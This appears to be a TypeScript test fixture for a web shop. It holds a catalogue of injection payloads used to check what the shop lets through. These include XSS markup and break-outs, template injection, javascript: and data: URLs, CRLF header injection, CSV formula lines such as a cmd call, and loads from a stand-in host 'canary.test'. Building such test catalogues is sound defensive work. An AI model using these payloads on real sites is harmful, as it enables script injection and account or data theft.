/** Where nothing of the shop may lead: a request for it, or a link to it, is a hole. */
export const canaryHost = "canary.test";

/** What a template makes of `7*1911`. */
export const computedByTemplates = String(7 * 1911);

/**
 * Every piece of markup below has the attribute `poison`, and every script calls `poisoned`. An element with that
 * attribute in a page is markup that was let through; the call says that it ran.
 */
const script = "<script poison>poisoned()</script>";
const image = "<img poison src=x onerror=poisoned()>";

const markup = [
  script,
  image,
  "<ScRiPt poison>poisoned()</sCrIpT>",
  `<script poison src=//${canaryHost}/s></script>`,
  "<svg poison onload=poisoned()>",
  "<svg/poison/onload=poisoned()//",
  "<svg><script poison>poisoned()</script></svg>",
  "<svg><a poison xlink:href=javascript:poisoned()><text y=9>x</text></a></svg>",
  "<svg><animate poison onbegin=poisoned() attributeName=x dur=1s>",
  "<svg><use poison href=data:image/svg+xml,<svg/onload=poisoned()>#x></use></svg>",
  "<body poison onload=poisoned()>",
  "<iframe poison src=javascript:parent.poisoned()></iframe>",
  '<iframe poison srcdoc="<script>parent.poisoned()</script>"></iframe>',
  '<object poison data="data:text/html,<script>parent.poisoned()</script>"></object>',
  `<embed poison src=//${canaryHost}/embed>`,
  `<link poison rel=stylesheet href=//${canaryHost}/link>`,
  `<style poison>@import url(//${canaryHost}/import);*{background:url(//${canaryHost}/css)}</style>`,
  `<base poison href=//${canaryHost}/>`,
  `<meta poison http-equiv=refresh content="0;url=//${canaryHost}/refresh">`,
  `<form poison action=//${canaryHost}/form><button formaction=javascript:poisoned()>Go</button></form>`,
  "<details poison open ontoggle=poisoned()>",
  "<input poison autofocus onfocus=poisoned()>",
  "<video poison><source onerror=poisoned()></video>",
  '<a poison href="javascript:poisoned()">link</a>',
  '<a poison href="java&#9;script:poisoned()">link</a>',
  '<a href="javascript:poisoned()">link</a>',
  '<a href=" jAvAsCrIpT&colon;poisoned()">link</a>',
  `<a href="//${canaryHost}/html">link</a>`,
  `<a href="/\\${canaryHost}/html">link</a>`,
  `<a href="/&#9;/${canaryHost}/html">link</a>`,
  `<a href="https:${canaryHost}/html">link</a>`,
  `<p poison style="background:url(//${canaryHost}/style)">x</p>`,
  `<math><mtext><table><mglyph><style><!--</style>${image}`,
  `<noscript><p title="</noscript>${image}">`,
  `<template>${image}</template>${image}`,
  `<xss poison onpointerrawupdate=poisoned() style=display:block>x</xss>`,
] as const;

/** Out of where a text may stand: an attribute, a title, a script, a comment, a section of XML. */
const breakOuts = [
  '" poison autofocus onfocus=poisoned() onmouseover=poisoned() x="',
  "' poison autofocus onfocus=poisoned() onmouseover=poisoned() x='",
  "` poison onmouseover=poisoned() x=`",
  `">${image}`,
  `'>${image}`,
  `</title>${script}`,
  `</textarea>${script}`,
  `</style>${script}`,
  `</script>${script}`,
  `</noscript>${script}`,
  `<!--${script}`,
  `-->${script}`,
  `<!--<script>${script}`,
  `]]>${script}`,
  `<![CDATA[${script}]]>`,
] as const;

/** Decoded once too often, these become markup. */
const encoded = [
  "&lt;img poison src=x onerror=poisoned()&gt;",
  "&#60;img poison src=x onerror=poisoned()&#62;",
  "&amp;lt;img poison src=x onerror=poisoned()&amp;gt;",
  "%3Cimg poison src=x onerror=poisoned()%3E",
  String.raw`\u003cimg poison src=x onerror=poisoned()\u003e`,
  String.raw`\x3cimg poison src=x onerror=poisoned()\x3e`,
  "\uff1cimg poison src=x onerror=poisoned()\uff1e",
  "+ADw-img poison src=x onerror=poisoned()+AD4-",
] as const;

/** Out of a string in a script, and into languages of templates. */
const code = [
  '"});poisoned();//',
  "');poisoned();//",
  String.raw`\");poisoned();//`,
  String.raw`\');poisoned();//`,
  "\u2028poisoned()\u2029",
  "`+poisoned()+`",
  "*/poisoned()/*",
] as const;

/** Rejected as a token of the shop that has no meaning, wherever it has tokens. */
const brokenToken = "{price:</script><script poison>poisoned()</script>}";

/** Texts with braces are rejected where the shop has tokens of its own. */
const inTemplates = [
  "${poisoned()}",
  "{poisoned()}",
  "{{constructor.constructor('poisoned()')()}}",
  "{{7*1911}}",
  "${7*1911}",
  "#{7*1911}",
  "<%= 7*1911 %>",
  "{% poisoned() %}",
  brokenToken,
  'import x from "//canary.test/module.js"',
] as const;

const markdown = [
  "[link](javascript:poisoned())",
  "[link](JaVaScRiPt:poisoned())",
  "[link](javascript&colon;poisoned())",
  "[link](<java\tscript:poisoned()>)",
  "[link](&#x6A;avascript:poisoned())",
  "[link](data:text/html,<script>poisoned()</script>)",
  "[link](vbscript:poisoned())",
  `[link](//${canaryHost}/markdown)`,
  `[link](/\\${canaryHost}/markdown)`,
  `[link](/&#9;/${canaryHost}/markdown)`,
  `[link](/<TAB>/${canaryHost}/markdown)`.replace("<TAB>", "\t"),
  '[link](https://other.test/ "\\" poison onmouseover=poisoned() x=\\"")',
  `![image](//${canaryHost}/image)`,
  "![image](javascript:poisoned())",
  '![image](product:x" poison onerror=poisoned() x=")',
  "<javascript:poisoned()>",
  "[link]\n\n[link]: javascript:poisoned()",
  "`code`<img poison src=x onerror=poisoned()>",
  "| a |\n|---|\n| <img poison src=x onerror=poisoned()> |",
] as const;

const styles = [
  `red;background:url(//${canaryHost}/style)`,
  `red}</style>${script}`,
  "expression(poisoned())",
  `url(//${canaryHost}/style)`,
] as const;

/** Further lines in the head of an email or a response. */
const headers = [
  `x\r\nBcc: poison@${canaryHost}`,
  `x\nX-Poison: yes`,
  `x\rX-Poison: yes`,
  "x%0d%0aX-Poison: yes",
  `x\r\n\r\n${image}`,
  `=?utf-8?B?${Buffer.from("x\r\nX-Poison: yes").toString("base64")}?=`,
  `x\u2028X-Poison: yes\u0085X-Poison: yes`,
  `poison@${canaryHost}, x@studio.test`,
] as const;

const controls = [
  "a\u0000poison",
  "a\u0001\u0008\u000b\u001bpoison",
  "a\ufffe\uffffpoison",
  "a\ud800poison",
  "\u202egnp.nosiop\u202c",
  "\u2066poison\u2067",
  "\u200e\u200fpoison\ufeff",
] as const;

/** A spreadsheet runs these. */
const formulas = [
  `=HYPERLINK("//${canaryHost}/csv","poison")`,
  "+1+cmd|' /C poison'!A0",
  "-1+poison",
  "@SUM(1)poison",
  "\t=1+poison",
] as const;

const urls = [
  "javascript:poisoned()",
  "JaVaScRiPt:poisoned()",
  " javascript:poisoned()",
  "\u0001javascript:poisoned()",
  "\u00a0javascript:poisoned()",
  "java\tscript:poisoned()",
  "java\nscript:poisoned()",
  "java\rscript:poisoned()",
  "javascript\t:poisoned()",
  "javascript&colon;poisoned()",
  "&#106;avascript:poisoned()",
  "javascript%3apoisoned()",
  "javascript://shop.localhost/%0apoisoned()",
  "javascript:https://shop.localhost/;poisoned()",
  "data:text/html,<script>poisoned()</script>",
  "DATA:text/html;base64,PHNjcmlwdD5wb2lzb25lZCgpPC9zY3JpcHQ+",
  "data:image/svg+xml,<svg/onload=poisoned()>",
  "vbscript:poisoned()",
  "livescript:poisoned()",
  "blob:https://shop.localhost/poison",
  "file:///etc/passwd?poison",
  "view-source:https://shop.localhost/?poison",
  `//${canaryHost}/url`,
  `/\\${canaryHost}/url`,
  `\\\\${canaryHost}/url`,
  `/\t/${canaryHost}/url`,
  `/\n/${canaryHost}/url`,
  `/\r/${canaryHost}/url`,
  `/\\\t/${canaryHost}/url`,
  `/.//${canaryHost}/url`,
  `/..//${canaryHost}/url`,
  `https:${canaryHost}/url`,
  `https:/${canaryHost}/url`,
  `http://${canaryHost}/url`,
  `ftp://${canaryHost}/url`,
  `/x"poison/onmouseover="poisoned()`,
  `/x"><script/poison>poisoned()</script>`,
  `https://other.test/"poison/onmouseover="poisoned()`,
  `https://other.test/'poison/onmouseover='poisoned()`,
  `https://other.test/"><script/poison>poisoned()</script>`,
  `https://other.test/</script><script/poison>poisoned()</script>`,
  `https://other.test/);background:url(//${canaryHost}/style`,
  "https://other.test/\r\nX-Poison:yes",
  "/x\r\nX-Poison:yes",
  "/x%0d%0aX-Poison:yes",
  "mailto:a@studio.test?bcc=poison@canary.test",
] as const;

/** The catalogue, by kind. */
export const attacks = {
  markup,
  breakOuts,
  encoded,
  code,
  templates: inTemplates,
  markdown,
  styles,
  headers,
  controls,
  formulas,
  urls,
} as const satisfies Record<string, readonly string[]>;

export const everyAttack: readonly string[] = Object.values(attacks).flat();

/** No table can store them. */
export const unstorable: readonly string[] = everyAttack.filter(
  (attack) => attack.includes("\0") || !attack.isWellFormed(),
);

const storable = everyAttack.filter(
  (attack) => !unstorable.includes(attack) && attack !== brokenToken,
);

/** As many of them in one text as a plain text may hold: whatever is let through shows, whichever it was. */
export const cocktail: string = storable.filter((attack) => !/[{}]/.test(attack)).join(" ");

/** Those with braces: apart, because a text with a token that has no meaning is rejected as a whole. */
export const templates: string = storable.filter((attack) => /[{}]/.test(attack)).join(" ");

/** Each stands for its kind, where a field takes any text: what matters is whether a page uses it as a URL. */
export const urlsOfEachKind = [
  "javascript:poisoned()",
  "data:text/html,<script>poisoned()</script>",
  `//${canaryHost}/url`,
  `/\\${canaryHost}/url`,
] as const;
